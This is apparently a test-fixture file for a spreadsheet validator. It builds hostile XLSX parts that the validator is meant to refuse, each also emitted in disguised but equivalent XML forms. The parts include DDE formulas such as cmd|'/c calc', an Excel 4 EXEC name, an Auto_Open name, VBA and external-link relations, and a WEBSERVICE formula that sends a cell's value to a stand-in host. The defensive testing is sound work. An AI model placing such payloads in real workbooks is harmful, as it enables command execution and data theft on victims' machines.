import type { fileProblems } from '../../../shared/file-problems.ts'
import { workbookWith } from '../../support/hostile-workbooks.ts'
import { choicesFrom, type Element, xmlOf } from '../../support/xml-writings.ts'
import { type HostileFile, ofKind } from './hostile-file.ts'

const office = 'http://schemas.openxmlformats.org'
const main = `${office}/spreadsheetml/2006/main`
const relationships = `${office}/officeDocument/2006/relationships`

export type Part = { name: string; namespace: string; root: Element }

export const sheet = (...cells: Element[]): Part => ({
  name: 'xl/worksheets/sheet1.xml',
  namespace: main,
  root: {
    name: 'worksheet',
    inside: [{ name: 'sheetData', inside: [{ name: 'row', attributes: { r: '1' }, inside: cells }] }],
  },
})
export const cell = (...inside: Element[]): Element => ({
  name: 'c',
  attributes: { r: 'A1', t: 'str' },
  inside,
})
export const formula = (text: string): Part =>
  sheet(cell({ name: 'f', inside: text }, { name: 'v', inside: '1' }))
export const book = (...names: Element[]): Part => ({
  name: 'xl/workbook.xml',
  namespace: main,
  root: {
    name: 'workbook',
    inside: [
      {
        name: 'sheets',
        inside: [{ name: 'sheet', attributes: { name: 'Uno|Dos', sheetId: '1', 'r:id': 'a' } }],
      },
      { name: 'definedNames', inside: names },
    ],
  },
})
const named = (name: string, text: string): Part =>
  book({ name: 'definedName', attributes: { name }, inside: text })
export const relation = (kind: string, Target: string, more = {}): Part => ({
  name: 'xl/drawings/_rels/drawing1.xml.rels',
  namespace: `${office}/package/2006/relationships`,
  root: {
    name: 'Relationships',
    inside: [
      { name: 'Relationship', attributes: { Id: 'rId1', Type: `${relationships}/${kind}`, Target, ...more } },
    ],
  },
})
export const external = { TargetMode: 'External' }
const drawn = (element: Element): Part => ({
  name: 'xl/drawings/a.vml',
  namespace: 'urn:v',
  root: { name: 'xml', inside: [element] },
})
const kind = (attributes: Readonly<Record<string, string>>): Part => ({
  name: '[Content_Types].xml',
  namespace: `${office}/package/2006/content-types`,
  root: { name: 'Types', inside: [{ name: 'Override', attributes }] },
})

/** Workbooks with more than values, each with one such part. */
export const refusedParts: readonly (readonly [string, keyof typeof fileProblems, Part])[] = [
  ['another program', 'links', formula("cmd|'/c calc'!A1")],
  ['another program in quotes', 'links', formula("'cmd'|'/c ''calc'''!A1")],
  ['another program all in quotes', 'links', formula("'cmd|/c calc'!A1")],
  ['another program after texts with quotes', 'links', formula('"a""|"&"\'"&MSEXCEL|\'..\\x\'!A1&"\'"')],
  ['another program in a name', 'links', named('Ventas', 'Excel|b!c')],
  ['a server', 'links', formula('IF(A1,_xlfn.WEBSERVICE ("http://a.b/"&A1),1)')],
  ['a server as a value', 'links', formula('MAP(A1:A3,_xleta.WEBSERVICE)')],
  ['a picture of a server', 'links', formula('_xlfn.IMAGE("http://a.b/c.png")')],
  ['data of a program', 'links', named('Ventas', 'rtd("a.b",,"c")')],
  ['a command of Excel 4', 'macros', named('Ventas', 'EXEC("calc.exe")')],
  ['a name that is run', 'macros', named('_xlnm.Auto_Open', 'Uno!$A$1')],
  ['macros', 'macros', relation('vbaProject', 'a.xml')],
  ['a link to a workbook', 'links', relation('externalLink', 'a.xml')],
  ['a picture that is elsewhere', 'links', relation('image', 'file://servidor/a.png', external)],
  ['a page that is no link', 'links', relation('frame', 'http://a.b/', external)],
  ['a part that is elsewhere', 'links', relation('image', '\\\\servidor\\a.png')],
  [
    'a picture named where it is drawn',
    'links',
    drawn({ name: 'imagedata', attributes: { src: 'file://servidor/a.png' } }),
  ],
  ['a link named where it is drawn', 'links', drawn({ name: 'blip', attributes: { 'r:link': 'rId1' } })],
  ['a sheet under the name of a picture', 'damaged', relation('worksheet', 'a%2Epng')],
  [
    'the kind of a sheet for a picture',
    'damaged',
    kind({
      PartName: '/xl/a.png',
      ContentType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
    }),
  ],
  [
    'the kind of a workbook with macros',
    'macros',
    kind({ PartName: '/xl/a.xml', ContentType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' }),
  ],
]

/** Each is written in one of the many forms of equal XML. */
export const disguisedWorkbooks: readonly HostileFile[] = ofKind(
  'xlsx',
  refusedParts.map(([name, , { name: part, namespace, root }], seed) => [
    `disguised: ${name}`,
    () => workbookWith({ [part]: xmlOf(root, namespace, choicesFrom(seed)) }),
  ]),
)
